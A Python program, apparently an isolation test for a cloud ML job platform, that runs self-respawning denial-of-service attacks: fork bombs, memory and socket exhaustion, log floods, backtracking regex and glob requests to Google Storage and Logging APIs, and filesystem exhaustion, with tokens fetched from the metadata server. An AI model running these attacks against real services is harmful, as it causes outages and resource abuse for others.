"""The program of a hostile job: waits for a file, then attacks until it is ended.

python program.py FILE ATTACK…

FILE lies below /gcs, in the bucket that the attacks use. The variable LOG_READER has a token that may read logs, as a
job's own may not. Only the standard library, as the image has no more.
"""

import contextlib
import json
import os
import socket
import sys
import time
from base64 import b64encode
from collections.abc import Callable
from contextlib import closing
from http.client import HTTPSConnection
from itertools import count
from pathlib import Path
from urllib.parse import quote, urlsplit
from urllib.request import Request, urlopen

GO = Path(sys.argv[1])
BUCKET = GO.parts[2]
STORAGE = "storage.googleapis.com"
LOGGING = "logging.googleapis.com"
NESTED, EMPTY, SPARSE, AT_ONCE = 2500, 5000, 20, 8


def forks() -> None:
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def memory() -> None:
    kept = []
    while True:
        kept.append(os.urandom(1 << 20))


def sockets() -> None:
    proxy = urlsplit(os.environ["https_proxy"])
    host, port = os.environ["GCE_METADATA_HOST"].split(":")
    kept = []
    while True:
        for address in ((proxy.hostname, proxy.port), (host, int(port))):
            try:
                kept.append(socket.create_connection(address, 1))
                kept[-1].sendall(b"GET / HTTP/1.1\r\n")
            except OSError:
                time.sleep(0.01)


def logs() -> None:
    while True:
        os.write(1, b"a line of a flood\n" * 1000)


def patterns() -> None:
    """Listings and log filters whose patterns take forever where they are matched by backtracking."""
    with closing(connected(STORAGE)) as connection:
        ask(
            connection,
            f"/upload/storage/v1/b/{BUCKET}/o?uploadType=media&name={'a' * 900}",
            own_token(),
            b"x",
        )
    print("a" * 900, flush=True)
    glob = quote("**a" * 12 + "b")
    project = os.environ["CLOUD_ML_PROJECT_ID"]
    search = json.dumps({"resourceNames": [f"projects/{project}"], "filter": 'textPayload=~"(a+)+b$"'})
    for _ in range(AT_ONCE):
        keep_doing(ask_forever, STORAGE, f"/storage/v1/b/{BUCKET}/o?matchGlob={glob}", own_token())
        keep_doing(ask_forever, LOGGING, "/v2/entries:list", os.environ["LOG_READER"], search.encode())
    os.wait()


def files() -> None:
    """Files and folders that cost the job nothing, and listings that have to look at them."""
    folder = GO.parent / f"files-{os.getpid()}"
    folder.mkdir(exist_ok=True)
    for work in (touch_sparse_files, nest_folders, make_empty_files):
        keep_doing(work, folder)
    for _ in range(AT_ONCE):
        keep_doing(ask_forever, STORAGE, f"/storage/v1/b/{BUCKET}/o", own_token())
    os.wait()


def touch_sparse_files(folder: Path) -> None:
    for number in count():
        with (folder / f"sparse-{number % SPARSE}").open("ab") as file:
            file.truncate(200 * 1024**3)
            os.pwrite(file.fileno(), b"x", 1024**3 * (number % 200))


def nest_folders(folder: Path) -> None:
    """Folders in each other, and then files in all of them, again and again."""
    here = os.open(folder, os.O_RDONLY)
    for _ in range(NESTED):
        with contextlib.suppress(FileExistsError):
            os.mkdir("d", dir_fd=here)
        here = inside(here)
    while True:
        here = os.open(folder, os.O_RDONLY)
        for number in range(NESTED):
            here = inside(here)
            os.close(os.open(f"{number}", os.O_CREAT, dir_fd=here))
            os.unlink(f"{number}", dir_fd=here)


def inside(folder: int) -> int:
    inner = os.open("d", os.O_RDONLY, dir_fd=folder)
    os.close(folder)
    return inner


def make_empty_files(folder: Path) -> None:
    empty = folder / "empty"
    empty.mkdir(exist_ok=True)
    while True:
        for number in range(EMPTY):
            (empty / f"{number}").touch()
        for number in range(EMPTY):
            (empty / f"{number}").unlink(missing_ok=True)


def own_token() -> str:
    url = (
        f"http://{os.environ['GCE_METADATA_HOST']}/computeMetadata/v1/instance/service-accounts/default/token"
    )
    with urlopen(Request(url, headers={"Metadata-Flavor": "Google"})) as answer:
        return str(json.load(answer)["access_token"])


def ask_forever(host: str, path: str, token: str, body: bytes | None = None) -> None:
    while True:
        try:
            with closing(connected(host)) as connection:
                while True:
                    ask(connection, path, token, body)
        except OSError as fault:
            print(f"{host}: {fault}", flush=True)
            time.sleep(0.1)


def connected(host: str) -> HTTPSConnection:
    """A connection by the gateway, as clients make it."""
    proxy = urlsplit(os.environ["https_proxy"])
    connection = HTTPSConnection(proxy.hostname or "", proxy.port)
    password = b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    connection.set_tunnel(host, headers={"Proxy-Authorization": f"Basic {password}"})
    return connection


def ask(connection: HTTPSConnection, path: str, token: str, body: bytes | None = None) -> None:
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    connection.request("POST" if body else "GET", path, body, headers)
    answer = connection.getresponse()
    if answer.status != 200:
        raise OSError(f"{path[:40]}… answered {answer.status}: {answer.read(200)!r}")
    answer.read()


def main() -> None:
    while not GO.exists():
        time.sleep(0.05)
    for name in sys.argv[2:]:
        keep_doing(globals()[name])
    while True:
        time.sleep(1)


def keep_doing(work: Callable[..., None], *arguments: object) -> None:
    """Do it in another process, and again whenever the kernel has ended that."""
    if os.fork() == 0:
        while True:
            if os.fork() == 0:
                work(*arguments)
            os.wait()


if __name__ == "__main__":
    main()
